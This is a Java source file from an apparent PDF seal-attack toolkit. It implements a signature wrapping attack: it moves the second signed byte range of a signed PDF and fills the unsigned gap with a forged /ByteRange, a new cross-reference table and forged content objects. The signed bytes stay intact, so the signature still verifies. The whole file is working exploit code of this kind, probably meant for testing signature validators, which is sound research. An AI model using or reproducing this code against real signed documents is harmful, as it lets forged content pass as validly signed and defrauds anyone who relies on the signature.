package cn.sidian.seal.attack;

import java.io.ByteArrayOutputStream;
import java.util.Arrays;
import java.util.HexFormat;
import java.util.Locale;
import java.util.Map;
import java.util.Objects;
import java.util.TreeMap;
import org.apache.pdfbox.cos.COSName;
import org.apache.pdfbox.cos.COSObjectKey;
import org.apache.pdfbox.cos.COSStream;
import org.jspecify.annotations.Nullable;

/**
 * SWA: the second signed part is moved back, and the widened gap, which nobody signed, takes a
 * second /ByteRange and new objects. The signed bytes are the same, so digest and value still fit.
 */
final class SignatureWrapping {
  private static final int DER_HEADER = 4;

  private SignatureWrapping() {}

  /** The range under which the moved parts still fit. */
  record Wrapped(byte[] pdf, long[] range) {}

  static byte @Nullable [] make(SealedFile file) {
    Wrapped wrapped = wrap(file);
    return wrapped == null ? null : wrapped.pdf();
  }

  static @Nullable Wrapped wrap(SealedFile file) {
    COSStream content = file.content();
    byte[] value = file.value();
    if (content == null || content.getKey() == null || value.length < DER_HEADER) {
      return null;
    }
    // what pads the value is not signed either: the gap has room
    int length = DER_HEADER + ((value[2] & 0xFF) << 8 | (value[3] & 0xFF));
    String hex = HexFormat.of().formatHex(Arrays.copyOf(value, length));
    byte[] second = Arrays.copyOfRange(file.bytes(), file.holeEnd(), file.length());
    long startxref = file.startxref();
    ByteArrayOutputStream out = new ByteArrayOutputStream();
    out.write(file.bytes(), 0, file.holeStart());
    write(out, "<" + hex + ">/ByteRange[0 " + file.holeStart() + " ");
    final int numberAt = out.size();
    write(out, wide(0) + " " + second.length + "]>>\nendobj\n");
    if (out.size() > startxref) {
      return null;
    }
    while (out.size() < startxref) {
      out.write('\n');
    }
    long forged = content.getKey().getNumber();
    Map<Long, Long> offsets = new TreeMap<>();
    for (COSObjectKey key : file.keys()) {
      long offset = file.offset(key);
      if (offset > 0 && offset < file.holeStart()) {
        offsets.put(key.getNumber(), offset);
      }
    }
    offsets.put(forged, startxref);
    long objectAt = startxref + table(offsets, file).length();
    offsets.put(forged, objectAt);
    write(out, table(offsets, file));
    write(out, forged + " 0 obj\n");
    out.writeBytes(Forged.drawing());
    write(out, "\nendobj\n" + (file.freeNumber() + 50) + " 0 obj\n<<");
    long moved = out.size();
    out.writeBytes(second);
    byte[] pdf = out.toByteArray();
    System.arraycopy(CosText.latin1(wide(moved)), 0, pdf, numberAt, wide(moved).length());
    return new Wrapped(pdf, new long[] {0, file.holeStart(), moved, second.length});
  }

  private static String wide(long number) {
    return String.format(Locale.ROOT, "%010d", number);
  }

  /** Stands where the sealed section stood, and lists the sealed objects and the forged one. */
  private static String table(Map<Long, Long> offsets, SealedFile file) {
    StringBuilder table = new StringBuilder("xref\n");
    offsets.forEach(
        (number, offset) ->
            table.append(number).append(" 1\n").append(wide(offset)).append(" 00000 n\r\n"));
    long previous = file.trailer().getLong(COSName.PREV, -1);
    return table
        .append("trailer\n<</Size ")
        .append(file.freeNumber() + 60)
        .append("/Root ")
        .append(Revision.text(Objects.requireNonNull(file.trailer().getItem(COSName.ROOT))))
        .append(previous < 0 ? "" : "/Prev " + previous)
        .append(">>\n")
        .toString();
  }

  private static void write(ByteArrayOutputStream out, String text) {
    out.writeBytes(CosText.latin1(text));
  }
}
